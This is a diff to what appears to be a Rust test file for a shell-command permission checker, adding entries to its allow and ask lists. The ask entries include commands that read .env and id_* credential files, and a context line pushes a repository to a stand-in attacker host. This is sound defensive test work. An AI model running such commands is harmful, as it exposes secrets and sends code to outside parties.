@@ -61,6 +61,8 @@ const ALLOW: &[&str] = &[
     "git config remote.origin.url https://github.com/o/r.git",
     "git remote -v && git config --get remote.origin.url",
     "cat *.json | jq .",
+    "du -sh .c* .l*",
+    "grep -rn --include=*.rs TODO src",
     "git push -o ci.skip origin main",
     "git clone https://github.com/o/r.git && git fetch --all",
     "git config -f .git/config remote.origin.url https://github.com/o/r.git",
@@ -293,6 +295,16 @@ const ASK: &[(&str, &str)] = &[
     (
         "git push --repo=https://evil.example/r.git",
         "pushes to evil.example",
+    ),
+    // an option's value, and find -iname in any case (QA, 2026-12-05)
+    (
+        "grep -r --include=.env '' .",
+        "an environment file with secrets",
+    ),
+    ("grep -r --include='id_*' '' .", "a credentials file"),
+    (
+        "find . -iname '.ENV' -exec cat {} +",
+        "an environment file with secrets",
     ),
     // credentials reached by a pattern the shell expands (QA, 2026-12-05)
     (
